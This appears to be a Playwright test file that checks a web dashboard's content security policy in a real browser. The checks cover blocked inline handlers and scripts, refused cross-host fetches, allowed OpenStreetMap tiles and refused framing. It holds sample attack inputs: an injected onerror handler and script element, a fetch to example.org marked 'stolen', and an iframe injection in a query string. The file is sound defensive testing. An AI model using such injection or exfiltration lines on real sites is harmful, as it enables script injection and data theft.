"""The content security policy in a real browser: every page works under it, and what it is for is stopped."""

import re

import pytest
from playwright.sync_api import Page, expect

from tests.browser.live import (
    ROOT,
    Server,
    Watch,
    expect_no_exception,
    expect_refused_frame,
    other_site,
    wait_until_ready,
)

REPORT = """addEventListener("securitypolicyviolation", (violation) => {
  (top.refused = top.refused || []).push(`${violation.effectiveDirective} ${violation.blockedURI} ${violation.sample}`);
});"""
PAGES = ["", *re.findall(r'url_path="(\w+)"\)', (ROOT / "ui" / "shell.py").read_text(encoding="utf-8"))]
MAP = ".st-key-claims-map iframe"


@pytest.fixture
def reporting(page: Page) -> Page:
    """Give a page whose window, with those of its frames, notes what the policy refuses in `window.refused`."""
    page.add_init_script(REPORT)
    return page


def read_refused(page: Page) -> list[str]:
    refused: list[str] = page.evaluate("window.refused || []")
    return refused


@pytest.mark.parametrize("name", PAGES)
def test_no_page_needs_what_the_policy_refuses(reporting: Page, watch: Watch, name: str):
    reporting.goto(f"/{name}")
    wait_until_ready(reporting)
    expect_no_exception(reporting)
    for frame in reporting.locator('iframe[title*="st_folium"]').all():
        expect(frame.content_frame.locator(".cg-mark").first).to_be_attached()
    reporting.wait_for_load_state("networkidle")
    assert read_refused(reporting) == []
    assert not any("Content Security Policy" in line for line in watch.console), watch.console


def test_a_handler_that_got_into_the_page_does_not_run(reporting: Page):
    reporting.goto("/about")
    wait_until_ready(reporting)
    reporting.evaluate("""() => {
      const holder = document.createElement("div");
      holder.innerHTML = '<img src="data:," onerror="window.ran = 1">';
      document.body.append(holder);
      const script = document.createElement("script");
      script.textContent = "window.ran = 2";
      document.body.append(script);
    }""")
    reporting.wait_for_function("(window.refused || []).length >= 2")
    assert sorted(line.split()[0] for line in read_refused(reporting)) == ["script-src-attr", "script-src-elem"]
    assert reporting.evaluate("window.ran") is None


def test_neither_page_nor_map_can_send_anything_to_another_host(reporting: Page, watch: Watch):
    reporting.goto("/")
    wait_until_ready(reporting)
    expect(reporting.frame_locator(MAP).locator(".cg-mark").first).to_be_attached()
    frame = reporting.locator(MAP).element_handle().content_frame()
    for place in (reporting.main_frame, frame):
        failed = place.evaluate("fetch('https://example.org/?stolen').then(() => 'sent', () => 'refused')")
        assert failed == "refused"
    assert [line.split()[0] for line in read_refused(reporting)] == ["connect-src", "connect-src"]
    assert watch.outside == []


def test_the_map_may_ask_an_online_ground_for_its_pictures(reporting: Page, watch: Watch):
    reporting.goto("/")
    wait_until_ready(reporting)
    frame = reporting.frame_locator(MAP)
    frame.get_by_role("button", name="Layers and names").click()
    frame.get_by_label("OpenStreetMap (online)").check()
    expect(frame.locator(".cg-trouble")).to_contain_text("needs no network")
    assert {address.split("/")[2] for address in watch.outside} == {"tile.openstreetmap.org"}
    assert read_refused(reporting) == []
    watch.forget()


def test_another_site_cannot_show_the_dashboard_in_a_frame(page: Page, server: Server, watch: Watch):
    with other_site() as site:
        with page.expect_response(f"{server.url}/about"):
            page.goto(f"{site}/?<iframe src='{server.url}/about'></iframe>")
        expect_refused_frame(page)
    watch.forget()
